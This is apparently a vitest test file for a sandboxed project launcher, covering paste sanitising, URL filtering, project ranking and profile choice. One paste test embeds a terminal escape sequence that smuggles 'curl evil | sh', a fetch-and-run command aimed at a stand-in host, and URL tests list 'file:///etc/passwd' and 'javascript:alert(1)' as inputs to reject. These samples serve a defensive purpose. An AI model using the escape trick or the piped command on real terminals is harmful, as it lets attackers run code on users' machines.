import { expect, test } from 'vitest'
import { chooseProfile } from './choose-profile.ts'
import { describeIsolation } from './isolation-words.ts'
import { isOpenableUrl } from './openable-url.ts'
import { orderProjects } from './order-projects.ts'
import { linesAtRisk, pasteable } from './paste-risk.ts'
import type { ProfileStatus } from './profile.ts'
import { describeProfile } from './profile-words.ts'
import { rankMatches } from './rank-matches.ts'
import { isRunnableFix } from './runnable-fix.ts'

test.each([
  ['ls', false, 0],
  ['ls\n', false, 0],
  ['ls\nrm -r x', false, 2],
  ['ls\r\nrm -r x\r\n', false, 2],
  ['a\rb', false, 2],
  ['ls\nrm -r x', true, 0],
  ['', false, 0],
])('a paste of %j with bracketed paste %s would run %s lines', (text, isBracketed, lines) => {
  expect(linesAtRisk(text, isBracketed)).toBe(lines)
})

test.each([
  ['plain\ttext\r\n日本 é', 'plain\ttext\r\n日本 é'],
  ['x\u001b[201~\rcurl evil | sh\r', 'x[201~\rcurl evil | sh\r'],
  ['\u009b201~\u0003\u0004\u007f', '201~'],
])('of %j a paste hands on %j', (text, pasted) => {
  expect(pasteable(text)).toBe(pasted)
})

test.each(['https://example.org', 'HTTP://example.org/a?b'])('%s may be opened outside', (url) => {
  expect(isOpenableUrl(url)).toBe(true)
})

test.each(['file:///etc/passwd', 'javascript:alert(1)', 'https://', 'ssh://host', ' https://example.org', 'smb://x'])('%s may not', (url) => {
  expect(isOpenableUrl(url)).toBe(false)
})

test('matches that begin with the query come first, and every word must be there', () => {
  const names = ['my-web', 'web', 'cobweb', 'website', 'api']
  expect(rankMatches(names, 'web', (name) => name)).toEqual(['web', 'website', 'my-web', 'cobweb'])
  expect(rankMatches(names, 'web my', (name) => name)).toEqual(['my-web'])
  expect(rankMatches(names, '  ', (name) => name)).toEqual(names)
})

test('pinned projects come first by name, the others by their last use', () => {
  const project = (name: string, pinned: boolean, lastOpenedAt: string) => ({ folder: `/${name}`, name, pinned, lastProfile: null, lastOpenedAt, exists: true })
  const ordered = orderProjects([project('old', false, '2026-01-01'), project('b', true, '2026-01-01'), project('new', false, '2026-02-01'), project('a', true, '2025-01-01')])
  expect(ordered.map(({ name }) => name)).toEqual(['a', 'b', 'new', 'old'])
})

const profile = (name: string, rest: Partial<ProfileStatus> = {}): ProfileStatus => ({
  name, image: name, source: 'user', state: 'fresh', file: '', base: null, reasons: [], runnable: true, findings: [], error: null, caps: { ramMib: null, cpus: null, tmpSize: null, pids: null }, ...rest,
})

test('a project gets its last profile, else the default, else one that runs', () => {
  expect(chooseProfile('web', [profile('default'), profile('web')])).toBe('web')
  expect(chooseProfile('gone', [profile('default'), profile('web')])).toBe('default')
  expect(chooseProfile(null, [profile('base', { runnable: false }), profile('web')])).toBe('web')
  expect(chooseProfile(null, [])).toBe('default')
})

test('a broken profile is broken whatever its image', () => {
  expect(describeProfile(profile('x', { state: 'fresh', error: 'A quote is not closed.' }))).toEqual({ kind: 'broken', word: 'broken', reasons: ['A quote is not closed.'] })
})

test('a container says why it is one', () => {
  const obstacle = { why: 'this host has no /dev/kvm', fix: '' }
  expect(describeIsolation('microvm', {}, null).isWeaker).toBe(false)
  expect(describeIsolation('container', {}, obstacle).why).toContain('/dev/kvm')
  expect(describeIsolation('container', { isolation: 'container' }, null).why).toMatch(/settings/i)
  expect(describeIsolation('unverified', {}, null).isWeaker).toBe(true)
})

test('a fix is offered as a command only when it is one', () => {
  expect(isRunnableFix('sudo apt-get install podman')).toBe(true)
  expect(isRunnableFix('Switch virtualisation on in the firmware.')).toBe(false)
  expect(isRunnableFix('sudo usermod --append --groups kvm "$USER", then log in again.')).toBe(false)
})
